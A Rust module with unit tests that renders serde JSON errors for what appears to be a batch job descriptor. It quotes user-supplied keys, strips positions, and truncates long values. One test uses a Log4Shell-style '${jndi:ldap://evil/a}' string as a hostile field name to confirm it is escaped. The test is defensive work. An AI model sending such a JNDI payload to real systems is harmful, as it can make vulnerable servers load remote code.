//! Renders serde's errors as a field path and a message that obey the quoting rule.

use serde_path_to_error::Segment;

use super::{quoted, ParseError, QUOTED_MAX_CHARS, ROOT_FIELD};

/// A bound on a serde message, whatever it quotes.
const MALFORMED_MESSAGE_MAX_CHARS: usize = 1_024;

/// A serde error at `path` as [`ParseError::Malformed`], its message safe to show.
pub(super) fn malformed(path: &[&Segment], error: &serde_json::Error) -> ParseError {
    let raw = error.to_string();
    let message = match error.classify() {
        // Syntax messages carry no user text, and the position is all that says where.
        serde_json::error::Category::Syntax | serde_json::error::Category::Eof => {
            format!("not valid JSON: {raw}")
        }
        serde_json::error::Category::Data | serde_json::error::Category::Io => {
            sanitize_serde_message(strip_position(&raw))
        }
    };
    // serde_path_to_error ends an unknown field's path with the field's own name; the message
    // names it, so the path says only where it was.
    let path = match path.split_last() {
        Some((_, parent)) if raw.starts_with("unknown field `") => parent,
        _ => path,
    };
    ParseError::Malformed {
        field: render_path(path),
        message,
    }
}

/// Renders a serde path in the same notation as [`FieldError::field`](super::FieldError::field).
/// Struct fields print as `.name`; keys of the descriptor's maps are user text, so they print
/// quoted as `["key"]`.
fn render_path(path: &[&Segment]) -> String {
    // The descriptor's fields whose values are maps with user-chosen keys.
    const USER_MAP_FIELDS: [&str; 3] = ["attributes", "env", "constraints"];
    let mut out = String::new();
    let mut parent_is_user_map = false;
    for segment in path {
        match *segment {
            Segment::Seq { index } => {
                out.push_str(&format!("[{index}]"));
                parent_is_user_map = false;
            }
            Segment::Map { key } | Segment::Enum { variant: key } => {
                if !parent_is_user_map && is_field_name(key) {
                    if !out.is_empty() {
                        out.push('.');
                    }
                    out.push_str(key);
                    parent_is_user_map = USER_MAP_FIELDS.contains(&key.as_str());
                } else {
                    out.push_str(&format!("[{}]", quoted(key)));
                    parent_is_user_map = false;
                }
            }
            // A key that failed to parse: the path so far says where.
            Segment::Unknown => parent_is_user_map = false,
        }
    }
    if out.is_empty() {
        ROOT_FIELD.to_owned()
    } else {
        out
    }
}

/// Whether a path segment has the shape of one of the descriptor's own (camelCase) field names;
/// anything else is printed quoted, whatever its origin.
fn is_field_name(key: &str) -> bool {
    let mut chars = key.chars();
    key.len() <= QUOTED_MAX_CHARS
        && chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric())
}

/// serde_json appends " at line X column Y"; the field path already says where.
fn strip_position(message: &str) -> &str {
    let marker = " at line ";
    let Some(at) = message.rfind(marker) else {
        return message;
    };
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    match message[at + marker.len()..].split_once(" column ") {
        Some((line, column)) if is_number(line) && is_number(column) => &message[..at],
        _ => message,
    }
}

/// Makes a serde data error obey the quoting rule. serde prints an unknown field or variant name
/// raw between backticks (so a name holding a newline or `${...}` would pass through), and quotes
/// string values with `{:?}` but at any length.
fn sanitize_serde_message(message: &str) -> String {
    for (prefix, noun) in [
        ("unknown field `", "unknown field"),
        ("unknown variant `", "unknown variant"),
    ] {
        let Some(rest) = message.strip_prefix(prefix) else {
            continue;
        };
        // The text after the name lists static names only, so the last separator is the real one,
        // even if the user's name itself contains "`, expected".
        let end = ["`, expected ", "`, there are no "]
            .iter()
            .filter_map(|separator| rest.rfind(separator))
            .max();
        if let Some(end) = end {
            let (name, tail) = rest.split_at(end);
            return format!("{noun} {}{}", quoted(name), &tail[1..]);
        }
        return format!("{noun} {}", quoted(rest.trim_end_matches('`')));
    }
    cap_chars(
        &shorten_quoted_strings(message),
        MALFORMED_MESSAGE_MAX_CHARS,
    )
}

/// Cuts each `{:?}`-quoted string in `message` to [`QUOTED_MAX_CHARS`] characters, keeping
/// escapes whole.
fn shorten_quoted_strings(message: &str) -> String {
    let mut out = String::with_capacity(message.len().min(MALFORMED_MESSAGE_MAX_CHARS));
    let mut chars = message.chars();
    while let Some(c) = chars.next() {
        out.push(c);
        if c != '"' {
            continue;
        }
        let mut length = 0usize;
        loop {
            let Some(c) = chars.next() else {
                return out;
            };
            if c == '"' {
                out.push('"');
                if length > QUOTED_MAX_CHARS {
                    out.push('…');
                }
                break;
            }
            let mut unit = String::from(c);
            if c == '\\' {
                if let Some(escaped) = chars.next() {
                    unit.push(escaped);
                    if escaped == 'u' {
                        for digit in chars.by_ref() {
                            unit.push(digit);
                            if digit == '}' {
                                break;
                            }
                        }
                    }
                }
            }
            length += 1;
            if length <= QUOTED_MAX_CHARS {
                out.push_str(&unit);
            }
        }
    }
    out
}

fn cap_chars(text: &str, max_chars: usize) -> String {
    match text.char_indices().nth(max_chars) {
        None => text.to_owned(),
        Some((cut, _)) => format!("{}…", &text[..cut]),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::{shorten_quoted_strings, strip_position};
    use crate::validation::test_support::{batch_with, malformed, problems_of};
    use crate::validation::FieldError;

    #[test]
    fn unknown_field_is_rejected_naming_the_field_and_where_it_is() {
        let (field, message) = malformed(&batch_with(json!({
            "container": {"resources": {"cpus": 2}}
        })));

        assert_eq!(field, "container.resources");
        assert!(
            message.starts_with("unknown field \"cpus\", expected one of `cpu`, `gpu`"),
            "{message}"
        );
        assert!(!message.contains(" at line "), "{message}");
    }

    #[test]
    fn unknown_top_level_field_is_reported_at_the_root() {
        let (field, message) = malformed(&batch_with(json!({"aplicationName": "x"})));

        assert_eq!(field, "(root)");
        assert!(message.starts_with("unknown field \"aplicationName\", expected one of"));
    }

    #[test]
    fn unknown_retry_policy_is_rejected_naming_the_policies() {
        let (field, message) = malformed(&batch_with(json!({
            "batch": {"retryPolicy": {"forever": {"retries": 1}}}
        })));

        assert_eq!(field, "batch.retryPolicy");
        assert_eq!(
            message,
            "unknown variant \"forever\", expected one of `immediate`, `delayed`, \
             `exponentialBackOff`"
        );
    }

    #[test]
    fn unknown_field_inside_a_retry_policy_is_rejected() {
        let (field, message) = malformed(&batch_with(json!({
            "batch": {"retryPolicy": {"immediate": {"retries": 1, "delayMs": 5}}}
        })));

        assert_eq!(field, "batch.retryPolicy.immediate");
        assert_eq!(message, "unknown field \"delayMs\", expected `retries`");
    }

    #[test]
    fn wrong_type_is_reported_with_its_path_and_the_expected_type() {
        let (field, message) = malformed(&batch_with(json!({
            "container": {"resources": {"memoryMB": "lots"}}
        })));

        assert_eq!(field, "container.resources.memoryMB");
        assert_eq!(
            message,
            "\"lots\" is not a number, expected a whole number from 0 to 18446744073709551615 (a \
             JSON number or a string of digits, as protobuf prints 64-bit numbers)"
        );
    }

    #[test]
    fn a_required_field_left_out_is_named_as_validation_names_it() {
        // proto3: an absent message is its default, so the image's name is empty.
        let errors = problems_of(json!({"container": {"image": null}}));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.image.name",
                "is required, expected a Docker image name such as \"registry.example.com/team/app\""
            )]
        );
    }

    #[test]
    fn text_that_is_not_json_is_malformed_at_the_root() {
        let (field, message) = malformed(b"{not json");

        assert_eq!(field, "(root)");
        assert!(message.starts_with("not valid JSON: "), "{message}");
    }

    #[test]
    fn wrong_type_inside_a_user_map_quotes_the_key_in_the_path() {
        let (field, _) = malformed(&batch_with(json!({
            "container": {"env": {"A\nB": 1}}
        })));

        assert_eq!(field, "container.env[\"A\\nB\"]");
    }

    #[test]
    fn wrong_type_inside_a_user_map_quotes_even_a_plain_key() {
        let (env_field, _) = malformed(&batch_with(json!({"container": {"env": {"FOO": 1}}})));
        let (attribute_field, _) = malformed(&batch_with(json!({"attributes": {"env": []}})));

        assert_eq!(env_field, "container.env[\"FOO\"]");
        assert_eq!(attribute_field, "attributes[\"env\"]");
    }

    #[test]
    fn unknown_field_names_from_the_user_are_escaped_in_malformed_errors() {
        let mut document: serde_json::Value =
            serde_json::from_slice(&batch_with(json!({}))).expect("json");
        document["owner"]["x`\n${jndi:ldap://evil/a}"] = json!(1);
        let json = serde_json::to_vec(&document).expect("json");

        let (field, message) = malformed(&json);

        assert_eq!(field, "owner");
        assert_eq!(
            message,
            "unknown field \"x`\\n${jndi:ldap://evil/a}\", expected `teamEmail`"
        );
    }

    #[test]
    fn long_string_values_in_malformed_errors_are_cut() {
        let long = "y".repeat(10_000);
        let json = batch_with(json!({"container": {"resources": {"cpu": long}}}));

        let (field, message) = malformed(&json);

        assert_eq!(field, "container.resources.cpu");
        assert_eq!(
            message,
            format!(
                "\"{}\"… is not a number, expected a number (a JSON number or a string such as \
                 \"1.5\")",
                "y".repeat(64)
            )
        );
    }

    #[test]
    fn shortening_quoted_strings_keeps_escapes_whole() {
        let text = format!("got {:?}, expected x", "\n".repeat(70));

        let shortened = shorten_quoted_strings(&text);

        assert_eq!(
            shortened,
            format!("got \"{}\"…, expected x", "\\n".repeat(64))
        );
    }

    #[test]
    fn position_suffix_is_stripped_only_when_it_is_one() {
        assert_eq!(strip_position("bad at line 3 column 14"), "bad");
        assert_eq!(
            strip_position("bad at line x column 14"),
            "bad at line x column 14"
        );
        assert_eq!(strip_position("plain"), "plain");
    }
}
